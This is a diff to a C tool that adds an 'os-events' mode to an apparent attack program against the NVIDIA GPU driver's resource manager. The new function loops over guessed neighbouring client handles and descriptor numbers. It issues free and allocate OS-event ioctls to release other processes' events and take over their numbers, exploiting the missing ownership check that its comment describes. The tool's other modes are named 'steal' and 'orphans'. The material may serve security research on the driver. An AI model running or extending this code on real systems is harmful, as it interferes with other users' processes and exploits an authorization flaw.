@@ -190,6 +190,23 @@ static void steal(bool shared)
 	}
 }
 
+/* Free the neighbours' OS events, and take their numbers: RM keeps them by client and number, and asks nobody. */
+static void os_events(void)
+{
+	for (uint32_t back = 1; back <= 32; back++) {
+		for (uint32_t number = 3; number < 64; number++) {
+			static const uint32_t calls[] = { NV_ESC_FREE_OS_EVENT, NV_ESC_ALLOC_OS_EVENT };
+
+			for (int i = 0; i < 2; i++) {
+				nv_ioctl_os_event_t call = { .hClient = rm.client - back, .fd = number, .Status = ~0u };
+
+				if (way(rm.card, calls[i], &call, sizeof(call)) == 0 && call.Status == NV_OK)
+					reached++;
+			}
+		}
+	}
+}
+
 static void many(int count, bool orphans)
 {
 	for (int i = 0; i < count; i++) {
@@ -485,6 +502,8 @@ int main(int argc, char **argv)
 	} else if (!strcmp(mode, "steal") || !strcmp(mode, "share")) {
 		steal(!strcmp(mode, "share"));
 		take_all(by_alloc);
+	} else if (!strcmp(mode, "os-events")) {
+		os_events();
 	} else if (!strcmp(mode, "processes")) {
 		many(12, false);
 	} else if (!strcmp(mode, "orphans")) {
